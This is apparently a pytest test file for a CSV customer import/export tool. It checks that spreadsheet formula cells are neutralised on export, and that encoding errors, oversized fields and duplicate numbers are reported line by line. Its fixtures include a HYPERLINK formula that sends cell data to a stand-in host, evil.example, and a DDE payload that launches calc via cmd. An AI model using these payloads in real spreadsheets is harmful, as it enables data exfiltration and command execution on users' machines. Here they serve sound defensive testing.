"""CSV at the edges: formula cells defused on export, per-line decoding reports, bounded lines, fields and columns."""
from __future__ import annotations

import csv
import gc
import io
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from engine.store.csvexport import CsvExport, ErrorsFile, safe_cell
from engine.store.csvsource import MAX_COLUMNS, inspect
from engine.store.errors import ImportFileError
from engine.store.firstseen import FirstSeen
from engine.store.importer import CustomerImport, ImportOptions
from engine.store.phones import mask
from engine.store.repos.customers import CustomerRepository

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def errors_of(path: Path) -> list[dict[str, str]]:
    with open(f"{path}.errors.csv", encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


# -- 13.8 formula injection --------------------------------------------------------------------------------
@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+8613812345678", "'+8613812345678"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("张伟", "张伟"), ("a=b", "a=b"), ("", ""), (None, ""), (12, "12"),
])
def test_safe_cells_start_with_an_apostrophe_when_a_spreadsheet_would_run_them(value, written):
    assert safe_cell(value) == written
    out = io.StringIO()
    CsvExport(out, raw=True).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == ("" if value is None else str(value))


def test_customers_export_defuses_formulas_and_raw_round_trips_them(jq, tmp_path):
    jq("db", "upgrade")
    source = tmp_path / "c.csv"
    with open(source, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["name", "phone", "attr.note"], [FORMULA, "13812345678", "@cmd"]])
    assert jq("customers", "import", str(source))[0] == 0
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert jq("customers", "export", "-o", str(safe))[0] == 0
    assert jq("customers", "export", "--raw", "-o", str(raw))[0] == 0
    header, row = read_csv(safe)
    assert row[header.index("name")] == "'" + FORMULA and row[header.index("attr.note")] == "'@cmd"
    assert row[header.index("phone")] == "'+8613812345678"
    header, row = read_csv(raw)
    assert row[header.index("name")] == FORMULA and row[header.index("phone")] == "+8613812345678"
    code, out, _ = jq("customers", "import", str(raw))  # raw: the same data comes back
    assert code == 0 and "1 unchanged, 0 rejected" in out
    code, out, _ = jq("customers", "import", str(safe))  # safe: the apostrophe of a phone cell is ignored
    assert code == 0 and "0 rejected" in out


def test_errors_csv_defuses_formulas_from_rejected_rows(store, tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(f"name,phone\n\"{FORMULA.replace(chr(34), chr(34) * 2)}\",not-a-number\n", encoding="utf-8")
    CustomerImport(store).run(path)
    rows = read_csv(Path(f"{path}.errors.csv"))
    assert rows[0] == ["line", "field", "error", "name", "phone"]
    assert rows[1][0] == "2" and rows[1][3] == "'" + FORMULA


def test_dnc_import_errors_csv_is_safe_too(jq, tmp_path):
    jq("db", "upgrade")
    listing = tmp_path / "dnc.csv"
    listing.write_text("number,reason\n13912345678,ok\n=2+5,=cmd|' /C calc'!A0\n", encoding="utf-8")
    code, out, _ = jq("dnc", "import", str(listing))
    assert code == 0 and "1 added, 0 replaced, 1 rejected" in out
    rows = read_csv(Path(f"{listing}.errors.csv"))
    assert rows[1][3:] == ["'=2+5", "'=cmd|' /C calc'!A0"]


# -- 13.8 decoding, line by line -----------------------------------------------------------------------------
def test_a_utf8_file_with_one_gbk_line_is_utf8_and_that_line_is_reported(store, tmp_path):
    path = tmp_path / "mixed.csv"
    good = "姓名,手机\n张伟,13812345678\n李娜,13912345678\n王芳,13712345678\n".encode("utf-8")
    path.write_bytes(good + "赵敏,13612345678\n".encode("gbk") + "刘洋,13512345678\n".encode("utf-8"))
    facts = inspect(path)
    assert (facts.encoding, facts.bad_lines) == ("utf-8", 1)
    summary = CustomerImport(store).run(path)
    assert (summary.encoding, summary.inserted, summary.rejected) == ("utf-8", 4, 1)
    assert [(e["line"], e["error"][:20]) for e in errors_of(path)] == [("5", "not valid UTF-8 text")]
    names = sorted(c.name for c in CustomerRepository(store).iter_all())
    assert names == sorted(["张伟", "李娜", "王芳", "刘洋"])


def test_a_gbk_file_stays_gbk_even_with_a_line_that_happens_to_be_utf8(store, tmp_path):
    path = tmp_path / "gbk.csv"
    lines = ["姓名,手机"] + [f"客户{i}号,1381234{i:04d}" for i in range(5)]
    path.write_bytes(("\n".join(lines) + "\n").encode("gbk") + "Zoë,13900000000\n".encode("utf-8"))
    facts = inspect(path)
    assert facts.encoding == "gb18030"


@pytest.mark.parametrize("bad, reason", [
    (b"\x00", "NUL byte"), ("\ufeff".encode("utf-8"), "byte-order mark"), (b"\x1b[31m", "control character U+001B"),
])
def test_binary_or_control_characters_past_the_first_4kib_reject_their_line(store, tmp_path, bad, reason):
    path = tmp_path / "c.csv"
    rows = b"".join(f"客户{i},1381234{i:04d}\n".encode() for i in range(400))
    assert len(rows) > 4096
    path.write_bytes(b"name,phone\n" + rows + b"Eve" + bad + b",13900000000\n" + b"Bob,13700000000\n")
    summary = CustomerImport(store).run(path)
    assert (summary.inserted, summary.rejected) == (401, 1)
    [error] = errors_of(path)
    assert error["line"] == "402" and reason in error["error"]
    assert CustomerRepository(store).find_by_phone("13900000000") is None


# -- 13.8 bounds on fields, lines and columns --------------------------------------------------------------------
def test_a_header_field_over_the_csv_limit_is_a_located_error(store, tmp_path):
    path = tmp_path / "c.csv"
    path.write_text('name,"' + "x" * 200_000 + '",phone\nA,13812345678\n', encoding="utf-8")
    with pytest.raises(ImportFileError, match=r"c\.csv:1: the header is not valid CSV: field larger than field limit"):
        CustomerImport(store).run(path)


def test_an_oversized_data_field_rejects_its_row_and_the_rest_is_imported(store, tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(f'name,phone\n"{"x" * 200_000}",13812345678\nB,13912345678\n', encoding="utf-8")
    summary = CustomerImport(store).run(path)
    assert (summary.inserted, summary.rejected) == (1, 1)
    assert "field larger than field limit" in errors_of(path)[0]["error"]


def test_an_over_long_line_or_unclosed_quote_rejects_only_that_row(store, tmp_path):
    path = tmp_path / "c.csv"
    long_line = "y" * (1 << 20) + "z" * 10
    path.write_text(f"name,phone\n{long_line},13812345678\nB,13912345678\n", encoding="utf-8")
    summary = CustomerImport(store).run(path)
    assert (summary.inserted, summary.rejected) == (1, 1)
    assert errors_of(path)[0]["line"] == "2" and "longer than 1024 KiB" in errors_of(path)[0]["error"]


def test_dnc_import_with_an_oversized_field_keeps_the_good_rows(jq, tmp_path):
    jq("db", "upgrade")
    listing = tmp_path / "dnc.csv"
    listing.write_text(f'number,reason\n13912345678,ok\n13812345678,"{"r" * 200_000}"\n13712345678,ok\n')
    code, out, _ = jq("dnc", "import", str(listing))
    assert code == 0 and "2 added, 0 replaced, 1 rejected" in out
    assert "black list" in jq("dnc", "check", "13712345678")[1]


@pytest.mark.parametrize("columns", [30_000, 1_000_000])
def test_a_header_with_too_many_columns_is_refused_before_any_mapping(store, tmp_path, columns):
    path = tmp_path / "wide.csv"
    path.write_text("phone," + ",".join(f"c{i}" for i in range(columns - 1)) + "\n13812345678\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match=r"wide\.csv:1: (the header has \d+ columns; at most 1000|cannot read the header: line longer)"):
        CustomerImport(store).run(path)


def test_a_header_at_the_column_limit_maps_with_a_short_message(store, tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text("phone," + ",".join(f"c{i}" for i in range(MAX_COLUMNS - 1)) + "\n13812345678"
                    + "," * (MAX_COLUMNS - 1) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match=r"unknown columns c0, c1, .*\(999 columns\)") as caught:
        CustomerImport(store).run(path)
    assert len(str(caught.value)) < 1000
    summary = CustomerImport(store, ImportOptions(extra_columns="ignore")).run(path)
    assert summary.inserted == 1


# -- 13.8 the duplicate check does not grow with the file ---------------------------------------------------------
def test_a_number_repeated_in_a_later_batch_is_still_rejected_on_its_second_line(store, tmp_path):
    path = tmp_path / "c.csv"
    path.write_text("name,phone\nA,13812345678\nB,13912345678\nC,13712345678\nD,13812345678\nE,13912345678\n")
    summary = CustomerImport(store, ImportOptions(batch_rows=2)).run(path)
    assert (summary.inserted, summary.rejected) == (3, 2)
    assert [(e["line"], e["error"]) for e in errors_of(path)] == [
        ("5", f"number {mask('+8613812345678')} already appears on line 2"),
        ("6", f"number {mask('+8613912345678')} already appears on line 3")]


def test_first_seen_answers_repeats_within_and_across_batches():
    with FirstSeen() as seen:
        assert seen.claim([(2, ["a"]), (3, ["b", "c"]), (4, ["c"])]) == {2: ("c", 3)}
        assert seen.claim([(5, ["x", "a"]), (6, ["y"])]) == {0: ("a", 2)}


def test_import_memory_does_not_grow_with_the_number_of_rows(store, tmp_path, monkeypatch):
    # Given a file of 20,000 distinct numbers imported in batches of 500
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("phone\n")
        fh.writelines(f"138{i:08d}\n" for i in range(20_000))
    retained: list[int] = []
    commit = CustomerImport._commit

    def measure_then_commit(self, *args, **kwargs):
        gc.collect()
        retained.append(tracemalloc.get_traced_memory()[0])
        return commit(self, *args, **kwargs)

    monkeypatch.setattr(CustomerImport, "_commit", measure_then_commit)
    # When it is imported, measuring what stays allocated between batches
    tracemalloc.start()
    try:
        summary = CustomerImport(store, ImportOptions(batch_rows=500)).run(path)
    finally:
        tracemalloc.stop()
    # Then the 36 batches after the 4th leave nothing behind (a number -> line map kept ~1.8 MB of them)
    assert summary.inserted == 20_000 and len(retained) == 41
    assert retained[-1] - retained[4] < 300_000, retained


# -- fuzzing the import boundary -------------------------------------------------------------------------------------
_CELLS = st.one_of(st.sampled_from(["13812345678", "+86 139 1234 5678", "010-12345678", "'+8613712345678", "x",
                                    "", "张伟", "=1+1", '"', '""', "a,b", "\n", "\r\n", "vip", "贵宾"]),
                   st.text(max_size=12))
_LINES = st.lists(st.lists(_CELLS, min_size=1, max_size=5).map(lambda cells: ",".join(cells)), max_size=8)
_HEADERS = st.sampled_from(["name,phone", "姓名,手机,客户等级", "phone", "number,list,reason", "name;phone", "x,y"])
_NOISE = st.sampled_from([b"", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe", "赵敏".encode("gbk"), b"\x1b", b'"', b"\r"])


@st.composite
def _csv_bytes(draw) -> bytes:
    text = draw(_HEADERS) + "\n" + "\n".join(draw(_LINES)) + "\n"
    data = text.encode(draw(st.sampled_from(["utf-8", "gb18030", "utf-8-sig"])))
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(_NOISE) + data[at:]
    return data


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(data=_csv_bytes())
@example(data=b"\xef\xbb\xbfname,phone\n\",\r,\"\r0\n")  # a quoted CR: found by this test
def test_fuzz_csv_import_imports_or_refuses_with_a_located_error(store, tmp_path, data):
    from engine.store.dncimport import import_dnc

    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    Path(f"{path}.errors.csv").unlink(missing_ok=True)
    # A lone CR ends a line too (old Mac files; the reader numbers lines that way), so bound by both.
    lines = data.count(b"\n") + data.count(b"\r") + 1
    try:
        summary = CustomerImport(store, ImportOptions(extra_columns="ignore", batch_rows=3)).run(path)
    except ImportFileError as exc:
        assert str(exc).startswith(str(path))
    else:
        assert summary.rows <= lines
        if summary.rejected:
            assert all(int(e["line"]) <= lines for e in errors_of(path))
    try:
        facts = inspect(path)
        dnc = import_dnc(store, facts, parse_when=lambda text, where: None)
    except ImportFileError as exc:
        assert str(exc).startswith(str(path))
    else:
        assert dnc.added + dnc.replaced + dnc.rejected <= lines


def test_errors_file_is_created_only_when_a_row_is_rejected(tmp_path):
    path = tmp_path / "x.errors.csv"
    with ErrorsFile(path, ["a"]):
        pass
    assert not path.exists()
    with ErrorsFile(path, ["a"]) as errors:
        errors.add(3, "a", "bad", ["=x"])
    assert read_csv(path) == [["line", "field", "error", "a"], ["3", "a", "bad", "'=x"]]
